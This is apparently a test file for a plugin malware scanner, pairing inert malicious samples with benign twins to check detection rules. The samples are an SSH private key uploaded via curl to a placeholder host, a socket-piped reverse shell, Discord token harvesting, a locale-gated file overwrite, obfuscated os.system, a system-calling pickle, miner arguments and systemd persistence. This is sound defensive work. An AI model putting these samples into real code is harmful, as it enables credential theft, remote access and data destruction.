"""Round-seven engine classes, each with a malicious sample and a benign twin.

Precision first: a download is download-and-execute only when something runs, loads or makes the saved
file executable (a named tool such as ``curl`` saving data runs only itself); a setup.py command class
is critical only when its code does something dangerous (network, processes, code from data, secrets,
writes outside the build tree). Samples are inert strings; hosts are ``*.invalid`` or 127.0.0.1.
"""

# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Mapping

from automatos.kernel.types import ScanFinding, Severity
from tests.scanning.conftest import scan

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def _hits(files: dict[str, str], rule: str, perms: Mapping[str, object] | None = None) -> list[ScanFinding]:
    return [f for f in scan(files, perms).findings if f.rule == rule]


# -- a declared downloader saving data is not download-and-execute ---------------------------------

CURL_SAVE = """\
import os
import subprocess
def fetch(name, storage):
    dest = os.path.join(storage, name + ".csv")
    subprocess.run(["curl", "-fsSL", "-o", dest, "https://data.example.invalid/" + name + ".csv"], check=True)
    return dest
"""
CURL_PERMS = {"subprocess": ["curl"], "network": ["data.example.invalid"]}


def test_a_declared_curl_saving_data_is_safe() -> None:
    report = scan({"plug/__init__.py": CURL_SAVE}, CURL_PERMS)
    assert [f for f in report.findings if f.rule == "download-exec"] == []
    assert report.risk_score < 20


def test_a_curl_download_then_run_is_download_exec() -> None:
    for runner in ('subprocess.run(["sh", dest])', "subprocess.run([dest])", "os.chmod(dest, 0o755)"):
        source = CURL_SAVE.replace("    return dest", f"    {runner}\n    return dest")
        hits = _hits({"plug/__init__.py": source}, "download-exec", CURL_PERMS)
        assert [(f.severity, f.line) for f in hits] == [(C, 5)], runner


# -- setup.py command classes: dangerous code vs a version file ------------------------------------

SETUP_VERSION = """\
from pathlib import Path
from setuptools import setup
from setuptools.command.build_py import build_py
VERSION = "2.0.1"
class BuildWithVersion(build_py):
    def run(self):
        Path("pkg/_version.py").write_text(f'__version__ = "{VERSION}"\\n')
        super().run()
setup(name="pkg", version=VERSION, cmdclass={"build_py": BuildWithVersion})
"""


def test_a_command_class_writing_a_version_file_is_low_and_safe() -> None:
    report = scan({"setup.py": SETUP_VERSION, "plug/__init__.py": "X = 1\n"})
    hooks = [f for f in report.findings if f.rule == "install-hook"]
    assert [(f.severity, f.line) for f in hooks] == [(L, 5)]
    assert report.risk_score < 20


def test_a_command_class_doing_something_dangerous_is_critical() -> None:
    dangerous = (
        'import os\n        os.system("id")',
        'import urllib.request\n        urllib.request.urlopen("https://x.invalid/p")',
        'open("/etc/profile.d/p.sh", "w").write("x")',
        "helper()",
    )
    for body in dangerous:
        source = SETUP_VERSION.replace(
            '        Path("pkg/_version.py")', f'        {body}\n        Path("pkg/_version.py")'
        )
        source += 'def helper():\n    import subprocess\n    subprocess.run(["id"])\n'
        report = scan({"setup.py": source, "plug/__init__.py": "X = 1\n"})
        hooks = [f for f in report.findings if f.rule == "install-hook"]
        assert [f.severity for f in hooks] == [C], body
        assert report.verdict.value == "blocked", body


# -- data-driven dispatch: bundled data names the code ---------------------------------------------

ENGINE = """\
import importlib, json, os
from functools import reduce
def run(path):
    for step in json.load(open(path))["steps"]:
        mod, _, attr = step["use"].partition(":")
        fn = reduce(getattr, attr.split("."), importlib.import_module(mod))
        fn(*step.get("args", []))
def register(ctx):
    run(os.path.join(os.path.dirname(__file__), "flow.json"))
"""


def test_bundled_data_naming_dangerous_calls_for_a_dynamic_import_is_obfuscated_call() -> None:
    flow = '{"steps": [{"use": "subprocess:getoutput", "args": ["id"]}]}'
    hits = _hits({"plug/__init__.py": ENGINE, "plug/flow.json": flow}, "obfuscated-call")
    assert [(f.severity, f.line, f.reachable) for f in hits] == [(C, 6, True)]
    assert "subprocess:getoutput" in hits[0].message
    split = '{"steps": [{"module": "subprocess", "call": "run"}]}'
    assert [f.severity for f in _hits({"plug/__init__.py": ENGINE, "plug/flow.json": split}, "obfuscated-call")] == [C]


def test_bundled_data_naming_the_plugins_own_handlers_adds_nothing() -> None:
    flow = '{"steps": [{"use": "plug.handlers:csv_rows"}, {"use": "json:dumps"}], "os": "linux", "mode": "run"}'
    report = scan({"plug/__init__.py": ENGINE, "plug/flow.json": flow})
    assert [f for f in report.findings if f.rule == "obfuscated-call"] == []
    assert report.verdict.value != "blocked"


# -- secret files as upload arguments of a declared network tool -----------------------------------

UPLOAD = """\
import os, subprocess
_KEY = os.path.join("~", ".ssh", "id_ed25519")
def share(note):
    args = ["curl", "-s", "-F", f"content=@{note}"]
    key = os.path.expanduser(_KEY)
    args += ["-F", f"sig=@{key}"]
    args.append("https://paste.example.invalid/api")
    return subprocess.run(args, capture_output=True).stdout
"""
UPLOAD_PERMS = {"subprocess": ["curl"], "network": ["paste.example.invalid"]}


def test_a_secret_file_as_a_curl_upload_argument_is_exfiltration_even_when_declared() -> None:
    hits = _hits({"plug/__init__.py": UPLOAD}, "exfiltration", UPLOAD_PERMS)
    assert [(f.severity, f.line, f.declared) for f in hits] == [(C, 6, False)]
    for variant in ('["--data-binary", "@" + key]', '["-T", key]'):
        source = UPLOAD.replace('["-F", f"sig=@{key}"]', variant)
        assert [f.severity for f in _hits({"plug/__init__.py": source}, "exfiltration", UPLOAD_PERMS)] == [C], variant


def test_uploading_the_users_own_file_with_a_declared_curl_is_safe() -> None:
    twin = (
        "import subprocess\n"
        "def share(note):\n"
        '    args = ["curl", "-s", "-F", f"content=@{note}", "https://paste.example.invalid/api"]\n'
        "    return subprocess.run(args, capture_output=True).stdout\n"
    )
    report = scan({"plug/__init__.py": twin}, UPLOAD_PERMS)
    assert [f for f in report.findings if f.rule == "exfiltration"] == [] and report.risk_score < 20


# -- chr lists through lambda helpers and an immediately-invoked lambda ----------------------------

CHR_LAMBDA = """\
_ = lambda *c: "".join(map(chr, c))
__ = lambda m: __import__(m)
(lambda o: getattr(o, _(115, 121, 115, 116, 101, 109))("id"))(__(_(111, 115)))
"""


def test_chr_helpers_and_an_invoked_lambda_reach_os_system() -> None:
    hits = _hits({"plug/__init__.py": CHR_LAMBDA}, "obfuscated-call")
    assert [(f.severity, f.line) for f in hits] == [(C, 3)]
    assert "os.system" in hits[0].message


def test_an_invoked_lambda_over_plain_values_is_not_flagged() -> None:
    twin = '_ = lambda *c: "".join(map(chr, c))\nLABEL = (lambda a, b: a + b)(_(104, 105), "!")\n'
    report = scan({"plug/__init__.py": twin})
    assert [f for f in report.findings if f.severity is C] == [] and report.risk_score < 20


# -- exec of decrypted data ------------------------------------------------------------------------

FERNET_EXEC = """\
from cryptography.fernet import Fernet
KEY = b"0vM2Q9AhASme3FPxrSsk0NOgYs9H4j7O0O4meO2loZA="
def register(ctx):
    blob = open(ctx.storage_path + "/x.bin", "rb").read()
    code = Fernet(KEY).decrypt(blob)
    exec(code)
"""


def test_exec_of_decrypted_data_is_obfuscated_exec() -> None:
    hits = _hits({"plug/__init__.py": FERNET_EXEC}, "obfuscated-exec")
    assert [(f.severity, f.line) for f in hits] == [(C, 6)]


def test_decrypting_notes_without_exec_is_safe() -> None:
    twin = FERNET_EXEC.replace("    exec(code)\n", "    return code.decode()\n")
    report = scan({"plug/__init__.py": twin}, {"filesystem": ["storage"]})
    assert [f for f in report.findings if f.rule == "obfuscated-exec"] == [] and report.risk_score < 20


# -- protestware: a locale gate and an overwrite of every file of any directory --------------------

PROTEST = """\
import locale, os
def check():
    lang = locale.getlocale()[0] or ""
    if lang.startswith(("xx_", "yy_")):
        for root, _dirs, files in os.walk(os.getcwd()):
            for f in files:
                with open(os.path.join(root, f), "w") as fh:
                    fh.write("!")
"""


def test_a_locale_gated_overwrite_of_a_swept_directory_is_destructive() -> None:
    hits = _hits({"plug/__init__.py": PROTEST}, "destructive")
    assert [(f.severity, f.line) for f in hits] == [(C, 7)]


def test_an_ungated_rewrite_of_a_storage_folder_and_a_locale_greeting_are_safe() -> None:
    ungated = PROTEST.replace('    if lang.startswith(("xx_", "yy_")):\n', "    if True:\n")
    greeting = PROTEST.replace("os.walk(os.getcwd())", "[('storage', [], ['hello.txt'])]")
    for source in (ungated, greeting):
        report = scan({"plug/__init__.py": source}, {"filesystem": ["storage"]})
        assert [f for f in report.findings if f.rule == "destructive" and f.severity is C] == []
        assert report.verdict.value != "blocked"


# -- reverse shell through a shell's pipes ---------------------------------------------------------

PIPES = """\
import socket, subprocess, threading
def pump(src, dst):
    while data := src.recv(1024):
        dst.write(data)
def run(addr):
    sock = socket.create_connection(addr)
    proc = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    threading.Thread(target=pump, args=(sock, proc.stdin)).start()
"""


def test_an_interactive_shell_with_piped_stdin_next_to_a_socket_is_a_reverse_shell() -> None:
    hits = _hits({"plug/__init__.py": PIPES}, "reverse-shell")
    assert [(f.severity, f.line) for f in hits] == [(C, 7)]


def test_a_shell_command_with_piped_input_and_a_port_check_is_not_a_reverse_shell() -> None:
    twin = PIPES.replace('["/bin/sh"]', '["/bin/sh", "-c", "sort"]')
    assert _hits({"plug/__init__.py": twin}, "reverse-shell") == []


# -- app token stores read through class attributes ------------------------------------------------

TOKENS = """\
import os, re
class Presence:
    _paths = {"app": os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")}
    def tokens(self):
        out = []
        for path in self._paths.values():
            for name in os.listdir(path):
                out += re.findall(r"[\\w-]{24}", open(os.path.join(path, name)).read())
        return out
"""


def test_token_stores_named_in_a_class_attribute_are_credential_reads() -> None:
    hits = _hits({"plug/__init__.py": TOKENS}, "credential-read")
    assert hits and all(f.severity is C for f in hits)
    assert {f.line for f in hits} <= {7, 8}


def test_a_settings_folder_in_a_class_attribute_is_not_a_credential_read() -> None:
    twin = TOKENS.replace('"discord", "Local Storage", "leveldb"', '"myplugin", "settings"')
    assert _hits({"plug/__init__.py": twin}, "credential-read") == []


# -- shipped pickles: opcodes decide, known_hosts is not a secret ----------------------------------

LOAD_SHIPPED = """\
import os, pickle
def load():
    with open(os.path.join(os.path.dirname(__file__), "words.pkl"), "rb") as f:
        return pickle.load(f)
"""


def _pickle_hits(blob: bytes) -> list[ScanFinding]:
    from automatos.extensions.scanning.rules import RULES
    from automatos.kernel.scanning import ScanTarget, run_rules

    files = {"plug/__init__.py": LOAD_SHIPPED.encode(), "plug/words.pkl": blob}
    target = ScanTarget(files=files, manifest={"name": "t", "version": "1", "entry": "plug"}, entry="plug")
    return [f for f in run_rules(RULES, target).findings if f.rule == "embedded-deserialise"]


def test_a_shipped_pickle_that_imports_code_is_critical() -> None:
    import zlib

    evil = b"cposix\nsystem\n(Vid\ntR."
    for blob in (evil, zlib.compress(evil)):
        hits = _pickle_hits(blob)
        assert [(f.severity, f.line) for f in hits] == [(C, 4)] and "posix.system" in hits[0].message


def test_a_shipped_pickle_of_data_types_is_medium_and_an_unreadable_one_high() -> None:
    import collections
    import pickle

    data = pickle.dumps({"words": ["a", "b"], "seen": {1, 2}, "order": collections.OrderedDict(a=1)})
    assert [f.severity for f in _pickle_hits(data)] == [M]
    assert [f.severity for f in _pickle_hits(b"\x00not a pickle")] == [H]


def test_reading_known_hosts_is_medium_and_a_private_key_critical() -> None:
    source = "import os\ndef hosts():\n    return open(os.path.expanduser('~/.ssh/known_hosts')).read()\n"
    hits = _hits({"plug/__init__.py": source}, "credential-read")
    assert [(f.severity, f.line) for f in hits] == [(M, 3)]
    assert scan({"plug/__init__.py": source}).risk_score < 20
    private = source.replace("known_hosts", "id_ed25519")
    assert [f.severity for f in _hits({"plug/__init__.py": private}, "credential-read")] == [C]


# -- crypto-miner: miner and pool strings, not coin names ------------------------------------------


def test_a_pool_url_or_miner_binary_is_critical_and_a_coin_name_is_not() -> None:
    miner = "ARGS = ['xmrig', '-o', 'stratum+tcp://127.0.0.1:3333', '--donate-level', '1']\n"
    hits = _hits({"plug/__init__.py": miner}, "crypto-miner")
    assert hits and {(f.severity, f.line) for f in hits} == {(C, 1)}
    prices = "URL = 'https://api.prices.invalid/simple/price?ids=bitcoin,monero'\n"
    report = scan({"plug/__init__.py": prices})
    assert [f for f in report.findings if f.rule == "crypto-miner"] == [] and report.risk_score < 20


# -- persistence needs a place that runs things, not a file suffix ---------------------------------


def test_a_service_file_in_systemd_is_persistence_and_one_in_storage_is_not() -> None:
    bad = "import os\ndef install():\n    open(os.path.expanduser('~/.config/systemd/user/x.service'), 'w').write('[Service]')\n"
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": bad}, "persistence")] == [(C, 3)]
    twin = "def example(storage):\n    open(storage + '/example.service', 'w').write('[Unit]')\n    open(storage + '/autostart.json', 'w').write('{}')\n"
    report = scan({"plug/__init__.py": twin}, {"filesystem": ["storage"]})
    assert [f for f in report.findings if f.rule == "persistence"] == [] and report.risk_score < 20


# -- computed getattr on a module that only computes -----------------------------------------------


def test_computed_getattr_on_math_is_medium_and_on_random_or_os_high() -> None:
    source = "import math\ndef op(name, x):\n    return getattr(math, name)(x)\n"
    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": source}, "dynamic-getattr")] == [(M, 3)]
    for module in ("random", "os"):  # ``random._os`` is os
        bad = source.replace("math", module)
        assert [f.severity for f in _hits({"plug/__init__.py": bad}, "dynamic-getattr")] == [H], module
